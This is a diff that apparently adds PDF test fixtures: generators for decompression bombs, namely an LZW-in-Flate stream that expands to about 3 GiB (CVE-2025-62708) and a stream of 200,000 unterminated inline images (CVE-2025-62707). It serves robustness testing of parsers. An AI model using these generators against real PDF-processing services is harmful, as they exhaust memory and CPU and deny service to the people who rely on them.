@@ -44,6 +44,32 @@ def nested_flate() -> bytes:
     return pdf(PAGE, stream(_blanks(3072, 3), filters))
 
 
+def lzw(mebibytes: int = 3072) -> bytes:
+    """A page's contents of 3 GiB of blanks in the older packing (CVE-2025-62708), packed again."""
+    told, size = _lzw_round()
+    # Eight rounds end on a whole byte, whatever the length of one.
+    bits = "".join(told * 8)
+    eight = int(bits, 2).to_bytes(len(bits) // 8, "big")
+    content = eight * (mebibytes * 2**20 // (8 * size))
+    return pdf(PAGE, stream(zlib.compress(content, 9), b"/Filter[/FlateDecode/LZWDecode]"))
+
+
+def _lzw_round() -> tuple[list[str], int]:
+    """The codes of one full table, each one blank longer than the last; and all blanks in it."""
+    # A code is as wide as the entry after the next needs; 256 begins the table anew.
+    codes = [(32, 9)]
+    codes += [(code, min((code + 1).bit_length(), 12)) for code in range(258, 4094)]
+    codes.append((256, 12))
+    count = 4094 - 258 + 1
+    return [f"{code:0{width}b}" for code, width in codes], count * (count + 1) // 2
+
+
+def inline_images(count: int = 200_000) -> bytes:
+    """Pictures within the page's contents that begin and never end (CVE-2025-62707)."""
+    begun = b"BI/W 9000/H 9000/BPC 8/CS/G/F/DCT ID \xff\xd8\xff\xe0 "
+    return pdf(PAGE, stream(zlib.compress(begun * count, 9), b"/Filter/FlateDecode"))
+
+
 def object_stream() -> bytes:
     """The page tree lives in a stream of objects that unpacks to 3 GiB; the index is lost."""
     entries = b"/Type/ObjStm/N 2/First 3000000000/Filter[/FlateDecode/FlateDecode]"
